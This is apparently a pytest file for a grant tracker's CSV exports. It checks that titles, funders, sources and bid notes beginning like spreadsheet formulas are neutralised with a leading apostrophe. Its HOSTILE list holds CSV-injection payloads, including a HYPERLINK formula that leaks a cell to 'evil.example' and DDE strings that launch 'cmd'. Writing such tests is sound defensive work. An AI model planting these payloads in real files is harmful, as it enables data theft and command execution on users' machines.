"""Every CSV the tracker writes opens in a spreadsheet as text: crawled titles, funders,
source names and bid notes that start like a formula are neutralised (OWASP's rule: a
leading ' before =, +, -, @, tab or carriage return), and nothing else changes."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tracker.db import session_scope
from tracker.models import Bid, Opportunity, Source

TRACKER = str(Path(sys.executable).with_name("tracker"))
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Fund\r=1+1",  # a carriage return inside a cell must not start a new row
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(engine, seeded) -> list[str]:
    """One call per hostile title, its funder and source named the same, and a bid on each
    with hostile notes."""
    with session_scope(engine) as s:
        for n, text in enumerate(HOSTILE):
            source = Source(name=text, kind="html", url=f"https://funder.example/s{n}")
            s.add(source)
            s.flush()
            opp = Opportunity(url=f"https://funder.example/f{n}", title=text, funder=text, source_id=source.id,
                              amount_min=0, amount_max=1000 + n)
            s.add(opp)
            s.flush()
            s.add(Bid(opportunity_id=opp.id, status="interested", notes=text, amount_requested=500))
    return HOSTILE


def as_spreadsheet(response) -> str:  # noqa: ANN001
    """The download's text as a spreadsheet decodes it (UTF-8, its byte-order mark dropped)."""
    return response.content.decode("utf-8-sig")


def spreadsheet_cells(text: str) -> list[dict[str, str]]:
    """The rows as a spreadsheet reads the file."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_inert(text: str, columns: tuple[str, ...]) -> None:
    rows = spreadsheet_cells(text)
    formulas = [(n, k, v) for n, row in enumerate(rows, start=2) for k, v in row.items() if v.startswith(FORMULA_START)]
    assert formulas == [], f"cells a spreadsheet would run as formulas: {formulas}"
    for column in columns:
        found = {row[column] for row in rows}
        for value in HOSTILE:
            expected = "'" + value if value.startswith(FORMULA_START) else value
            assert expected in found, f"{column}: {value!r} is missing or changed"


def test_opportunities_csv_from_the_web_holds_no_formulas(as_role, hostile) -> None:
    r = as_role("viewer").get("/opportunities.csv")
    assert r.status_code == 200
    assert_inert(as_spreadsheet(r), ("title", "funder", "source"))
    plain = [row for row in spreadsheet_cells(as_spreadsheet(r)) if row["title"] == "Youth Diversion Fund"]
    assert plain and plain[0]["amount_min"] == "5000"  # numbers and ordinary text are untouched


def test_bids_csv_holds_no_formulas(as_role, hostile) -> None:
    r = as_role("viewer").get("/bids.csv")
    assert r.status_code == 200
    assert_inert(as_spreadsheet(r), ("title", "funder", "notes"))
    assert {row["amount_requested"] for row in spreadsheet_cells(as_spreadsheet(r)) if row["notes"]} == {"500"}


@pytest.mark.parametrize("path", ["/opportunities.csv", "/bids.csv"])
def test_web_csv_opens_as_utf8_in_excel(as_role, hostile, path) -> None:
    """Excel reads a CSV without a byte-order mark in the PC's code page ("£" becomes "Â£");
    the downloads start with one, and nothing else carries it."""
    body = as_role("viewer").get(path).content
    assert body.startswith(b"\xef\xbb\xbf") and not body[3:].startswith(b"\xef\xbb\xbf")
    rows = spreadsheet_cells(body.decode("utf-8-sig"))
    assert "title" in rows[0] and any(row["title"] == HOSTILE[-1] or row["title"] == "'" + HOSTILE[-1] for row in rows)


def test_cli_csv_export_holds_no_formulas(db_url, hostile, tmp_path) -> None:
    env = {**os.environ, "TRACKER_HOME": str(tmp_path / "home"), "TRACKER_DATABASE_URL": db_url}
    env.pop("TRACKER_CONFIG", None)
    done = subprocess.run([TRACKER, "opportunities", "export", "--format", "csv"], env=env, cwd=tmp_path,
                          capture_output=True, timeout=120)  # bytes: a text pipe would turn \r into \n
    assert done.returncode == 0, done.stderr
    assert_inert(done.stdout.decode("utf-8"), ("title", "funder", "source"))
    out = tmp_path / "export.csv"
    subprocess.run([TRACKER, "opportunities", "export", "--format", "csv", "--out", str(out)], env=env,
                   cwd=tmp_path, check=True, capture_output=True, timeout=120)
    assert_inert(out.read_bytes().decode("utf-8"), ("title",))
